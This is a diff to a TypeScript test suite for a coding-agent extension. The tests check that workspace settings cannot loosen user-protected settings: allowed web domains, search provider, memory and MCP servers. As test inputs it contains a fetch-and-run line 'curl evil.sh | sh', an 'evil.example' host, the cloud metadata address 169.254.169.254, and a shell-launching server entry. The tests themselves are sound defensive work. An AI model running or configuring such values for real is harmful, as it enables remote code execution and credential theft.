@@ -1,5 +1,10 @@
 import { strict as assert } from 'node:assert';
-import { isProtectedSetting, protectedSettingValue } from '../../../../src/core/trust/protectedSettings';
+import manifest from '../../../../package.json';
+import { parseSettings } from '../../../../src/core/settingsSource';
+import { isProtectedSetting, protectedSettingKeys, protectedSettingValue } from '../../../../src/core/trust/protectedSettings';
+import { readTrustedSettings } from '../../../../src/core/trust/readTrustedSettings';
+import type { SettingLayers } from '../../../../src/core/trust/settingLayers';
+import { HashedTrustStore } from '../../../../src/node/trust/hashedTrustStore';
 
 // Spec §11: a repository's .vscode/settings.json cannot loosen what the agent may do unasked.
 describe('protected settings: the user decides, a workspace may only tighten', () => {
@@ -76,4 +81,67 @@ describe('protected settings: the user decides, a workspace may only tighten', (
     for (const key of ['mcp.servers', 'hooks.enabled', 'approval.commandAllowList']) assert.ok(isProtectedSetting(key), key);
     for (const key of ['model.name', 'context.compactThreshold', 'agent.planMode']) assert.equal(isProtectedSetting(key), false, key);
   });
+
+  it('web (spec §22): a workspace can neither add a host to web.allowedDomains nor choose the search provider, nor turn the web on', () => {
+    assert.deepEqual(protectedSettingValue('web.allowedDomains', { defaultValue: [], workspaceValue: ['evil.example'] }, trusted), []);
+    assert.deepEqual(protectedSettingValue('web.allowedDomains', { defaultValue: [], globalValue: ['docs.example'], workspaceValue: ['docs.example', 'evil.example'] }, trusted), ['docs.example']);
+    assert.deepEqual(protectedSettingValue('web.allowedDomains', { defaultValue: [], globalValue: ['docs.example'], workspaceFolderValue: ['169.254.169.254'] }, trusted), ['docs.example']);
+    assert.equal(protectedSettingValue('web.search.provider', { defaultValue: 'none', workspaceValue: 'searxng' }, trusted), 'none');
+    assert.equal(protectedSettingValue('web.search.provider', { defaultValue: 'none', globalValue: 'brave', workspaceValue: 'tavily' }, trusted), 'brave');
+    assert.equal(protectedSettingValue('web.enabled', { defaultValue: true, globalValue: false, workspaceValue: true }, trusted), false);
+    assert.equal(protectedSettingValue('web.enabled', { defaultValue: true, workspaceValue: false }, trusted), false, 'turning the web off only tightens');
+  });
+
+  it('memory (spec §21): a workspace can turn memory neither on nor off', () => {
+    assert.equal(protectedSettingValue('memory.enabled', { defaultValue: true, workspaceValue: false }, trusted), true);
+    assert.equal(protectedSettingValue('memory.enabled', { defaultValue: true, globalValue: false, workspaceValue: true }, trusted), false);
+    assert.equal(protectedSettingValue('memory.enabled', { defaultValue: true, globalValue: false, workspaceFolderValue: true }, trusted), false);
+  });
+
+  it('the web and memory settings as the extension reads them: the workspace\'s values do not count', () => {
+    const user: Record<string, unknown> = { 'web.allowedDomains': ['docs.example'], 'memory.enabled': false };
+    const workspace: Record<string, unknown> = { 'web.enabled': true, 'web.allowedDomains': ['evil.example'], 'web.search.provider': 'exa', 'memory.enabled': true };
+    const config = {
+      inspect: (key: string): SettingLayers => ({ defaultValue: manifestDefault(key), globalValue: user[key], workspaceValue: workspace[key] }),
+      get: (key: string) => workspace[key] ?? user[key] ?? manifestDefault(key),
+    };
+    const values = new Map<string, unknown>();
+    const store = new HashedTrustStore({ get: <T>(key: string) => values.get(key) as T | undefined, update: async (key: string, value: unknown) => void values.set(key, value) });
+    const keys = { web: ['enabled', 'allowedDomains', 'search.provider'], memory: ['enabled'] };
+    const { settings } = parseSettings(readTrustedSettings(config, keys, { store, workspaceTrusted: () => true, onEndpointIgnored: () => undefined }));
+    assert.deepEqual(settings.web.allowedDomains, ['docs.example']);
+    assert.equal(settings.web.search.provider, 'none');
+    assert.equal(settings.memory.enabled, false);
+  });
+
+  it('Restricted Mode: a workspace value of every protected setting is ignored, looser or stricter', () => {
+    assert.ok(protectedSettingKeys.length >= 17, `${protectedSettingKeys.length} keys`);
+    const counted: string[] = [];
+    for (const key of protectedSettingKeys) {
+      const own = manifestDefault(key);
+      for (const fromWorkspace of otherValues(key, own)) {
+        const layers = { defaultValue: own, workspaceValue: fromWorkspace, workspaceFolderValue: fromWorkspace };
+        if (JSON.stringify(protectedSettingValue(key, layers, false)) !== JSON.stringify(own)) counted.push(`${key} = ${JSON.stringify(fromWorkspace)}`);
+      }
+    }
+    assert.deepEqual(counted, []);
+  });
 });
+
+type ManifestProperty = { default?: unknown; enum?: string[] };
+const manifestProperties = manifest.contributes.configuration.properties as Record<string, ManifestProperty>;
+
+function manifestDefault(key: string): unknown {
+  const property = manifestProperties[`codeagent.${key}`];
+  assert.ok(property, `codeagent.${key} is in package.json`);
+  return property.default;
+}
+
+/** Values a workspace might set instead of `own`: the other switch position, a longer and an empty list, other choices. */
+function otherValues(key: string, own: unknown): unknown[] {
+  if (typeof own === 'boolean') return [!own];
+  if (Array.isArray(own)) return [[], [...own, 'evil.example', 'curl evil.sh | sh']];
+  if (typeof own === 'string') return [...(manifestProperties[`codeagent.${key}`]?.enum ?? []), 'curl evil.sh | sh'].filter((v) => v !== own);
+  return [{}, { evil: { command: 'sh' } }];
+}
+
